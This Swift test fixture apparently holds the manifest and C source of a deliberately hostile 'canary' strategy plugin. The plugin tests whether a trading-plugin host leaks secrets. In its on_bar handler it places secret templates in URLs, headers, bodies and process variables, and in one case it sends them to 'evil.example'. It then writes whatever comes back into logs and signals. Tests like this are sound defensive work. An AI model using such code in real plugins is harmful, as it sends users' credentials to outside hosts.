/// A strategy in C that gets secrets into requests and commands in every way there is, and writes what comes back
/// wherever it can: to the log, and into signals that end up in the ledger.
enum CanaryPlugin {
  /// Its manifest, with the port of a server of the test.
  static func manifest(port: UInt16) -> String {
    """
    {"id":"canary","name":"Canary","version":"1.0.0","roles":["strategy"],"abi":"1.1","language":"c",
     "summary":"A strategy of a test.","permissions":["http:localhost:\(port)","secret:CANARY_ENV","secret:CANARY_FILE",
      "secret:api_key","process:tell"],
     "options":[{"name":"api_key","type":"secret","help":"a key"},
      {"name":"ending","type":"choice","choices":["well","abort","fault"],"default":"well","help":"how it ends"}]}
    """
  }

  /// Its source, with the port of a server of the test.
  static func source(port: UInt16) -> String {
    """
    #include "wharf/wharf.h"
    #include <stdlib.h>
    #include <string.h>
    WHARF_MANIFEST_FILE("manifest.json");
    #define TEXT(text) text, sizeof(text) - 1
    #define SERVER "localhost:\(port)"
    static const wharf_host *host; static const wharf_log *logs; static const wharf_http *http;
    static const wharf_process *process; static const wharf_config *config;
    static char said[1 << 16]; static uint64_t length, seen; static int anything;
    static char ending[16];
    static void add(const void *data, uint64_t n) {
      if (n > sizeof said - length) n = sizeof said - length;
      memcpy(said + length, data, n); length += n;
    }
    static void status(void *c, int32_t code) { (void)c; (void)code; add(TEXT("status ")); }
    static void header(void *c, const char *n, uint64_t nl, const char *v, uint64_t vl) {
      (void)c; add(n, nl); add(TEXT(": ")); add(v, vl); add(TEXT(" "));
    }
    static void body(void *c, const void *d, uint64_t n) { (void)c; add(d, n); }
    static void output(void *c, int32_t s, const void *d, uint64_t n) { (void)c; (void)s; add(d, n); }
    static void ended(void *c, int32_t a, int32_t b, int32_t t) { (void)c; (void)a; (void)b; (void)t; add(TEXT(" ended")); }
    static void keep(void *c, const void *d, uint64_t n) { (void)c; memcpy(ending, d, n < 15 ? n : 15); }
    static const wharf_http_sink answer = {sizeof answer, 0, 0, status, header, body};
    static const wharf_process_sink output_sink = {sizeof output_sink, 0, 0, output, ended};
    static const wharf_bytes_sink pieces = {sizeof pieces, 0, 0, keep};
    static void tell(const char *what, wharf_status code) {
      char line[64]; uint64_t n = strlen(what);
      memcpy(line, what, n); line[n] = ' '; line[n + 1] = (char)('0' + code / 10); line[n + 2] = (char)('0' + code % 10);
      logs->write(host, WHARF_LOG_WARNING, line, n + 3);
      for (uint64_t at = 0; at < length; at += 4000)
        logs->write(host, WHARF_LOG_ERROR, said + at, length - at < 4000 ? length - at : 4000);
    }
    static void request(const char *to, const char *path, const char *value, const char *text) {
      const wharf_http_header line = {TEXT("Authorization"), value, strlen(value)};
      const wharf_http_request r = {sizeof r, WHARF_HTTP_BODY_TEMPLATE, TEXT("POST"), to, strlen(to), path, strlen(path),
        &line, 1, text, strlen(text), 0, 0, 10000000000, 0, 0};
      length = 0;
      tell("request", http->send(host, &r, &answer));
    }
    static void command(const char *value) {
      const wharf_process_variable v = {TEXT("A"), value, strlen(value)};
      const wharf_process_request r = {sizeof r, 0, TEXT("tell"), 0, 0, &v, 1, 0, 0};
      uint64_t number = 0;
      length = 0;
      wharf_status code = process->start(host, &r, &number);
      while (code == WHARF_OK) code = process->read(host, number, 60000000000, &output_sink);
      tell("command", code);
    }
    static wharf_status create(const wharf_host *h, wharf_instance **o) {
      host = h; *o = (wharf_instance *)&anything;
      h->table(h, TEXT("wharf.log/1"), (const void **)&logs);
      h->table(h, TEXT("wharf.config/1"), (const void **)&config);
      h->table(h, TEXT("wharf.http/1"), (const void **)&http);
      h->table(h, TEXT("wharf.process/1"), (const void **)&process);
      if (!http || !process) return WHARF_E_UNSUPPORTED;
      length = 0;
      (void)config->text(h, TEXT("ending"), &pieces);
      if (config->text(h, TEXT("api_key"), &pieces) != WHARF_E_NOT_FOUND) add(TEXT("a secret was handed out"));
      return WHARF_OK;
    }
    static wharf_status start(wharf_instance *i, const wharf_start *s) { (void)i; (void)s; return WHARF_OK; }
    static wharf_status on_bar(wharf_instance *i, const wharf_bar *bar, const wharf_strategy_sink *sink) {
      (void)i;
      switch (seen++) {
      case 0: request(SERVER, "/echo?k=${secret:CANARY_ENV}&f=${secret:CANARY_FILE}", "Bearer ${secret:api_key}", "{\\"k\\":\\"${secret:CANARY_FILE}\\"}"); break;
      case 1: request(SERVER, "/echo", "Basic ${basic:CANARY_ENV:CANARY_FILE}", "${secret:api_key}"); break;
      case 2: request(SERVER, "/cut/${secret:CANARY_ENV}", "Bearer ${secret:api_key}", "${secret:CANARY_FILE}"); break;
      case 3: request("evil.example", "/${secret:CANARY_ENV}", "Bearer ${secret:api_key}", "${secret:CANARY_FILE}"); break;
      case 4: request(SERVER, "/${secret:HOME}", "${secret:CANARY_ENV}", ""); break;
      case 5: request(SERVER, "/a b${secret:CANARY_ENV}", "${secret:CANARY_FILE}", ""); break;
      case 6: command("${secret:CANARY_ENV} ${secret:CANARY_FILE}"); break;
      case 7: command("${basic:CANARY_ENV:api_key}"); break;
      case 20:
        request(SERVER, "/echo?${secret:CANARY_ENV}", "Bearer ${secret:api_key}", "${secret:CANARY_FILE}");
        if (ending[0] == 'a') abort();
        if (ending[0] == 'f') return WHARF_E_FAULT;
        break;
      default: return WHARF_OK;
      }
      const wharf_field field = {TEXT("inputs"), TEXT("answer"), WHARF_FIELD_TEXT, 0, 0, 0, said, length < 200 ? length : 200};
      const wharf_signal signal = {.struct_size = sizeof signal, .instrument = bar->instrument,
        .verdict = WHARF_VERDICT_RAISED, .action = WHARF_ACTION_ENTER_LONG, .order_type = WHARF_ORDER_MARKET,
        .time_in_force = WHARF_TIF_DAY, .flags = WHARF_SIGNAL_OWN_SIZE, .bar_time = bar->start, .decided_at = bar->end,
        .close = bar->close, .score = 0.5, .quantity = 1000000000, .fields = &field, .field_count = 1,
        .text = said, .text_length = length < 200 ? length : 200};
      sink->signal(sink->context, &signal);
      return WHARF_OK;
    }
    static void destroy(wharf_instance *i) { (void)i; }
    static const wharf_strategy strategy = {sizeof strategy, 0, create, start, on_bar, NULL, NULL, NULL, destroy};
    static wharf_status find(const char *id, uint64_t n, const void **out) {
      if (n != 16 || memcmp(id, "wharf.strategy/1", 16)) return WHARF_E_UNSUPPORTED;
      *out = &strategy;
      return WHARF_OK;
    }
    const wharf_plugin *wharf_plugin_entry(void) {
      static const wharf_plugin plugin = {sizeof plugin, 1, 1, find};
      return &plugin;
    }

    """
  }
}
